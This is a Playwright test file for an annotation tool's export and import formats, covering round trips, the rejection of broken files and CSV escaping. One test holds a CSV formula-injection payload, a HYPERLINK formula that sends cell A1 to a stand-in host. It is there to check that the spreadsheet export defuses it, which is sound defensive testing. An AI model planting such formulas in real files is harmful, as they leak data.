// Every export format, the way a person uses them: a document in many scripts, annotations
// with links, notes and annotators (every format carries those); each format downloaded from the Export menu, read by an outsider
// (tests/interop/check.mjs: offsets by code points, W3C against every MUST schema), then
// imported back into an empty document and compared with what was there.
import { test, expect } from '@playwright/test';
import fs from 'node:fs';
import path from 'node:path';
import { openFresh, annotationList, dragSelect, deleteAll } from './helpers.mjs';
import {
  readNative, checkW3c, checkBrat, unzipStored, checkSpacy, checkDoccano, checkCsv, parseCsv,
} from '../interop/check.mjs';

const FIXTURES = path.join(path.dirname(new URL(import.meta.url).pathname), '..', 'fixtures');
const TEXT_FILE = path.join(FIXTURES, 'unicode.txt');
const ANNOTATIONS_FILE = path.join(FIXTURES, 'unicode.annotations.json');

const FORMATS = [
  { menu: /^W3C Web Annotation/, check: (buf, ref) => checkW3c(buf.toString('utf8'), ref), lost: null },
  { menu: /^brat standoff/, check: (buf, ref) => checkBrat(unzipStored(buf), ref), lost: /brat standoff cannot hold .*entity name.*hand-set date value/ },
  { menu: /^spaCy \/ Prodigy JSONL/, check: (buf, ref) => checkSpacy(buf.toString('utf8'), ref), lost: null },
  { menu: /^doccano JSONL/, check: (buf, ref) => checkDoccano(buf.toString('utf8'), ref), lost: /doccano JSONL cannot hold 2 notes, 12 links/ },
  { menu: /^CSV, a row per annotation/, check: (buf, ref) => checkCsv(buf.toString('utf8'), ref), lost: null },
  // No cell of this sample starts like a formula, so the spreadsheet file equals the plain one.
  { menu: /^CSV for spreadsheets/, check: (buf, ref) => checkCsv(buf.toString('utf8'), ref), lost: null },
];

async function exportAs(page, menu, info) {
  await page.getByRole('button', { name: /^Export/ }).click();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('menuitem', { name: menu }).click(),
  ]);
  const file = info.outputPath(download.suggestedFilename());
  await download.saveAs(file);
  return { name: download.suggestedFilename(), path: file, bytes: fs.readFileSync(file) };
}

/** The placed annotations of a native export, as comparable records. */
function essentials(native) {
  const file = JSON.parse(native);
  const byId = new Map(file.annotations.map((a) => [a.id, a]));
  const where = (id) => { const a = byId.get(id); return `${a.label}@${a.start}-${a.end}`; };
  return {
    spans: file.annotations.map((a) => ({ label: a.label, start: a.start, end: a.end, quote: a.quote, note: a.note, entity: a.entity?.inferred ? null : a.entity?.name ?? null, date: a.date?.manual ? a.date.value : null, annotator: a.annotator ?? '' })),
    links: file.relations.map((r) => `${where(r.claim)} ${r.role} ${where(r.annotation)}`).sort(),
  };
}

async function openUnicodeDocument(page) {
  await openFresh(page);
  // A .txt chosen in Import… becomes a new document.
  await page.locator('input[type=file]').setInputFiles(TEXT_FILE);
  const dialog = page.getByRole('dialog', { name: 'Documents' });
  await dialog.getByLabel('Published').fill('2025-01-28');
  await dialog.getByRole('button', { name: 'Add and open' }).click();
  await expect(page.locator('.doc-text')).toContainText('外交部发言人毛宁');
  await page.locator('input[type=file]').setInputFiles(ANNOTATIONS_FILE);
  await expect(annotationList(page).getByRole('listitem')).toHaveCount(17);
}

test('each format exports from the menu, reads right to an outsider, and imports back the same', async ({ page }, info) => {
  await openUnicodeDocument(page);
  const list = annotationList(page);
  const original = await exportAs(page, /^Download JSON/, info);
  const reference = readNative(original.bytes.toString('utf8'));
  const expected = essentials(original.bytes.toString('utf8'));
  expect(expected.links.length).toBe(12);

  for (const format of FORMATS) {
    // Start each format from the full annotations (an earlier round trip may have lost some).
    await deleteAll(page);
    await page.locator('input[type=file]').setInputFiles(ANNOTATIONS_FILE);
    await expect(list.getByRole('listitem')).toHaveCount(17);
    const exported = await exportAs(page, format.menu, info);
    format.check(exported.bytes, reference);
    const notice = page.getByRole('status').first();
    if (format.lost) await expect(notice).toContainText(format.lost);
    else await expect(notice).toContainText(`Downloaded ${exported.name}.`);

    // Into an empty document and back out as JSON: the same annotations (minus what the
    // format cannot hold).
    await deleteAll(page);
    await expect(list.getByRole('listitem')).toHaveCount(0);
    await page.locator('input[type=file]').setInputFiles(exported.path);
    await expect(list.getByRole('listitem')).toHaveCount(17);
    await expect(page.getByRole('status').first()).toContainText(`Imported 17 annotations from ${exported.name}`);
    const again = essentials((await exportAs(page, /^Download JSON/, info)).bytes.toString('utf8'));
    const carried = (s) => ({
      ...s,
      note: /doccano/.test(format.menu.source) ? '' : /brat/.test(format.menu.source) ? s.note.replace(/[\n\t]/g, ' ') : s.note,
      entity: /brat|doccano/.test(format.menu.source) ? null : s.entity,
      date: /brat|doccano/.test(format.menu.source) ? null : s.date,
    });
    expect(again.spans, `${exported.name} round trip`).toEqual(expected.spans.map(carried));
    expect(again.links, `${exported.name} links`).toEqual(format.menu.source.includes('doccano') ? [] : expected.links);
  }
  await page.screenshot({ path: info.outputPath('formats.png') });
});

test('a brat .ann with its .txt imports as two files; broken files of each format are refused whole, naming the line', async ({ page }, info) => {
  await openUnicodeDocument(page);
  const list = annotationList(page);
  const brat = unzipStored((await exportAs(page, /^brat standoff/, info)).bytes);
  const dir = info.outputPath('brat');
  fs.mkdirSync(dir, { recursive: true });
  const write = (name, content) => { const p = path.join(dir, name); fs.writeFileSync(p, content); return p; };
  const annName = Object.keys(brat).find((n) => n.endsWith('.ann'));
  const txtName = Object.keys(brat).find((n) => n.endsWith('.txt'));
  const ann = brat[annName];

  await deleteAll(page);
  await page.locator('input[type=file]').setInputFiles([write('doc.ann', ann), write('doc.txt', brat[txtName])]);
  await expect(list.getByRole('listitem')).toHaveCount(17);
  await expect(page.getByRole('status').first()).toContainText('Imported 17 annotations from doc.ann + doc.txt (brat standoff)');

  const broken = [
    ['bad.ann', ann.replace(/^T2\tDate /m, 'T2\tPerson '), /line 2: unknown type "Person"/],
    ['bad.csv', 'label,start,end,quote\r\nactor,0,8,Ministry\r\nactor,x,8,Ministry\r\n', /line 3.*start/],
    ['bad.jsonl', `{"text": "a", "spans": []}\n{"text": `, /line 2/],
    ['bad.jsonld', JSON.stringify({ '@context': 'http://www.w3.org/ns/anno.jsonld', type: 'Annotation', id: 'urn:x:1', body: { type: 'TextualBody', purpose: 'tagging', value: 'person' }, target: { source: 'urn:doc', selector: { type: 'TextQuoteSelector', exact: 'Maria' } } }), /annotation 1.*person/i],
  ];
  for (const [name, content, reason] of broken) {
    await page.locator('input[type=file]').setInputFiles(write(name, content));
    const alert = page.getByRole('alert');
    await expect(alert).toContainText(`Import of ${name} rejected`);
    await expect(alert).toContainText(reason);
    await expect(alert).toContainText('Nothing was changed');
    await expect(list.getByRole('listitem')).toHaveCount(17);
  }
});

test('the menu offers CSV for programs and CSV for spreadsheets; the spreadsheet file neutralises a formula in a note', async ({ page }, info) => {
  await openFresh(page);
  const formula = '=HYPERLINK("https://example.com/?q="&A1,"click")';
  await dragSelect(page, 'Dmitry Peskov');
  await page.keyboard.press('1');
  await page.keyboard.press('n');
  await page.keyboard.type(formula);
  await page.keyboard.press('Tab');
  await expect(annotationList(page).getByRole('listitem').first()).toContainText('✎');

  await page.getByRole('button', { name: /^Export/ }).click();
  const forPrograms = page.getByRole('menuitem', { name: /^CSV, a row per annotation/ });
  const forSheets = page.getByRole('menuitem', { name: /^CSV for spreadsheets/ });
  await expect(forPrograms).toContainText('for pandas, R and scripts: every cell exact');
  await expect(forSheets).toContainText("for Excel, LibreOffice, Google Sheets: cells starting with = + - @ get a ' so they never run as formulas");
  await page.screenshot({ path: info.outputPath('export-menu-csv.png') });
  await page.keyboard.press('Escape');

  const exact = await exportAs(page, /^CSV, a row per annotation/, info);
  expect(exact.name).toMatch(/\.annotations\.csv$/);
  const exactNote = parseCsv(exact.bytes.toString('utf8'))[1][6];
  expect(exactNote).toBe(formula);

  const sheets = await exportAs(page, /^CSV for spreadsheets/, info);
  expect(sheets.name).toMatch(/\.spreadsheet\.csv$/);
  const [header, row] = parseCsv(sheets.bytes.toString('utf8'));
  expect(header[6]).toBe('note');
  expect(row[6]).toBe(`'${formula}`);
  for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  await expect(page.getByRole('status').first()).toContainText("got a ' in front (1 note), so no spreadsheet runs them as formulas");
});
